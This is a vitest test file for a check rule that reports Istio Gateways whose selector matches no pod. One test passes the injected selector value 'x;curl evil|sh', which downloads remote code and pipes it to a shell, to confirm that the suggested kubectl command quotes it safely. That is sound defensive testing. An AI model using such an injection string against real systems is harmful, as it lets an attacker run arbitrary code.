import { expect, test } from 'vitest'
import { gatewayWithoutPod } from '#lib/checks/rules/gateway-without-pod.ts'
import { findingsOf, raw, sceneOf, textsFound } from '#lib/checks/rules/scene.test-helper.ts'

const said = (...objects: object[]) => textsFound(gatewayWithoutPod, sceneOf(objects))

const gateway = (number: number, mode: string, istio = 'eastwestgateway') =>
  raw('Gateway', 'cross-network', {
    spec: {
      selector: { istio },
      servers: [{ port: { number, name: 'tls', protocol: 'TLS' }, tls: { mode }, hosts: ['*.local'] }],
    },
  })
const gatewayPod = (labels: object) => raw('Pod', 'gateway', {}, { namespace: 'istio-gateways', labels })

test('no pod opens the way in', () => {
  expect(said(gateway(15443, 'AUTO_PASSTHROUGH'), gatewayPod({ istio: 'ingressgateway' }))).toEqual([
    'No pod carries istio=eastwestgateway, by which Gateway shop/cross-network selects who opens port 15443 to VMs.',
  ])
  expect(said(gateway(15012, 'PASSTHROUGH'))).toHaveLength(1)
})

test('a pod of any namespace, and Gateways that are not for VMs', () => {
  expect(
    said(gateway(15443, 'AUTO_PASSTHROUGH'), gatewayPod({ istio: 'eastwestgateway', app: 'x' })),
  ).toEqual([])
  expect(said(gateway(443, 'PASSTHROUGH'))).toEqual([])
})

test('what a selector holds is one word of the command', () => {
  const scene = sceneOf([gateway(15443, 'AUTO_PASSTHROUGH', 'x;curl evil|sh')])
  expect(findingsOf(gatewayWithoutPod, scene)[0]?.fix.commands).toEqual([
    `kubectl get pods -A -l 'istio=x;curl evil|sh'`,
  ])
})
